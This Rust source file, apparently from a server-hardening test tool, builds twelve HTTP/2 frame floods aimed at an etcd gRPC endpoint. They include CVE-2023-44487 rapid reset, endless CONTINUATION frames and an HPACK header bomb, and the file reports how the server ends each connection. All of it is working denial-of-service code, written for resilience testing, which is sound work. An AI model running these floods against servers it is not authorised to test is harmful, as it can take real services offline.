//! Floods of HTTP/2 frames. A connection that the server ends is replaced until the bounds are
//! reached.

use crate::measure::{Bounds, FloodReport};
use crate::raw::{
    CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM, GO_AWAY, HEADERS, PING, PRIORITY, RST_STREAM, Receiver,
    SETTINGS, Sender, WINDOW_UPDATE, field_block, frame, headers,
};
use std::collections::BTreeMap;
use std::io;
use std::time::{Duration, Instant};

/// Frames that are written together.
const TOGETHER: u64 = 64;
/// A call that waits for its client's messages.
const WATCH: &str = "/etcdserverpb.Watch/Watch";
const RANGE: &str = "/etcdserverpb.KV/Range";
/// For the server's last words.
const FAREWELL: Duration = Duration::from_secs(2);

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum FrameFlood {
    /// CVE-2023-44487: streams that are opened and reset at once.
    RapidReset,
    /// Streams that the server has to reset, because something is wrong in them.
    MadeReset,
    /// CVE-2023-45288: headers that never end.
    Continuation,
    /// The same with bytes in them.
    LongHeaders,
    /// A header of 4 KB in the table, and 10,000 references to it in each request.
    HeaderBomb,
    Settings,
    Ping,
    WindowUpdate,
    Priority,
    EmptyData,
    TinyData,
    /// Streams that are opened and left alone.
    OpenStreams,
}

impl FrameFlood {
    pub const ALL: [Self; 12] = [
        Self::RapidReset,
        Self::MadeReset,
        Self::Continuation,
        Self::LongHeaders,
        Self::HeaderBomb,
        Self::Settings,
        Self::Ping,
        Self::WindowUpdate,
        Self::Priority,
        Self::EmptyData,
        Self::TinyData,
        Self::OpenStreams,
    ];

    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid-reset",
            Self::MadeReset => "made-reset",
            Self::Continuation => "continuation",
            Self::LongHeaders => "long-headers",
            Self::HeaderBomb => "header-bomb",
            Self::Settings => "settings",
            Self::Ping => "ping",
            Self::WindowUpdate => "window-update",
            Self::Priority => "priority",
            Self::EmptyData => "empty-data",
            Self::TinyData => "tiny-data",
            Self::OpenStreams => "open-streams",
        }
    }

    /// Sends the beginning of a connection.
    async fn begin(self, sender: &mut Sender) -> io::Result<u32> {
        match self {
            Self::Continuation | Self::LongHeaders => {
                let stream = sender.take_stream();
                sender.send(&frame(HEADERS, END_STREAM, stream, &field_block(&headers(RANGE)))).await?;
                Ok(stream)
            }
            Self::EmptyData | Self::TinyData => {
                let stream = sender.begin(&headers(WATCH)).await?;
                // The prefix of a message that is long in coming.
                sender.send(&frame(DATA, 0, stream, &[0, 0, 0x10, 0, 0])).await?;
                Ok(stream)
            }
            Self::RapidReset
            | Self::MadeReset
            | Self::HeaderBomb
            | Self::Settings
            | Self::Ping
            | Self::WindowUpdate
            | Self::Priority
            | Self::OpenStreams => Ok(0),
        }
    }

    /// One more of them.
    fn next(self, stream: u32, sender: &mut Sender) -> Vec<u8> {
        match self {
            Self::RapidReset => {
                let stream = sender.take_stream();
                let opened = frame(HEADERS, END_HEADERS | END_STREAM, stream, &field_block(&headers(RANGE)));
                [opened, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
            }
            Self::MadeReset => {
                let stream = sender.take_stream();
                let opened = frame(HEADERS, END_HEADERS | END_STREAM, stream, &field_block(&headers(WATCH)));
                // Data behind the end is an error of the stream.
                [opened, frame(DATA, 0, stream, &[0])].concat()
            }
            Self::Continuation => frame(CONTINUATION, 0, stream, &[]),
            Self::LongHeaders => {
                frame(CONTINUATION, 0, stream, &field_block(&[(b"x-long".to_vec(), vec![b'x'; 16_000])]))
            }
            Self::HeaderBomb => {
                let stream = sender.take_stream();
                // Kept in the table, then named by its place there.
                let mut kept = field_block(&[(b"x-bomb".to_vec(), vec![b'x'; 3_900])]);
                kept[0] = 0x40;
                let block = [field_block(&headers(RANGE)), kept, vec![0xbe; 10_000]].concat();
                frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
            }
            Self::Settings => frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]),
            Self::Ping => frame(PING, 0, 0, &[0; 8]),
            Self::WindowUpdate => frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
            Self::Priority => {
                let stream = sender.take_stream();
                frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 16])
            }
            Self::EmptyData => frame(DATA, 0, stream, &[]),
            Self::TinyData => frame(DATA, 0, stream, &[0]),
            Self::OpenStreams => {
                let stream = sender.take_stream();
                frame(HEADERS, END_HEADERS, stream, &field_block(&headers(WATCH)))
            }
        }
    }
}

/// Keeps sending until a bound is reached.
pub async fn run(port: u16, flood: FrameFlood, bounds: Bounds) -> io::Result<FloodReport> {
    let deadline = Instant::now() + bounds.time;
    let (mut sent, mut ends) = (0, BTreeMap::<String, u32>::new());
    while sent < bounds.count && Instant::now() < deadline {
        let Connection { mut sender, receiver } = Connection::open(port).await?;
        let ended = tokio::spawn(until_closed(receiver));
        let left = bounds.count - sent;
        sent += one_connection(flood, &mut sender, left, deadline).await;
        // A connection that has not ended by now was served.
        let ended = tokio::time::timeout(FAREWELL, ended).await;
        let answer =
            ended.map_or_else(|_| "put up with".to_owned(), |ended| ended.unwrap_or_else(|error| error.to_string()));
        *ends.entry(answer).or_default() += 1;
    }
    let answer = ends.iter().map(|(answer, times)| format!("{times} × {answer}")).collect::<Vec<_>>().join(", ");
    Ok(FloodReport { sent, answer })
}

async fn one_connection(flood: FrameFlood, sender: &mut Sender, left: u64, deadline: Instant) -> u64 {
    let Ok(stream) = flood.begin(sender).await else { return 0 };
    let mut sent = 0;
    while sent < left && Instant::now() < deadline {
        let count = TOGETHER.min(left - sent);
        let mut together = Vec::new();
        for _ in 0..count {
            together.extend(flood.next(stream, sender));
        }
        // A server that does not read any more has said all that it will say.
        let written = tokio::time::timeout_at(deadline.into(), sender.send(&together)).await;
        if !matches!(written, Ok(Ok(()))) {
            break;
        }
        sent += count;
    }
    sent
}

/// Reads to the end of the connection, and says how it ended.
async fn until_closed(mut receiver: Receiver) -> String {
    let mut goodbye = None;
    while let Ok(Some(frame)) = receiver.next().await {
        if frame.kind == GO_AWAY {
            goodbye = frame.code();
        }
    }
    goodbye.map_or_else(|| "closed".to_owned(), |code| format!("goodbye {}", reason(code)))
}

fn reason(code: u32) -> String {
    match code {
        0 => "NO_ERROR".to_owned(),
        1 => "PROTOCOL_ERROR".to_owned(),
        3 => "FLOW_CONTROL_ERROR".to_owned(),
        9 => "COMPRESSION_ERROR".to_owned(),
        11 => "ENHANCE_YOUR_CALM".to_owned(),
        other => other.to_string(),
    }
}
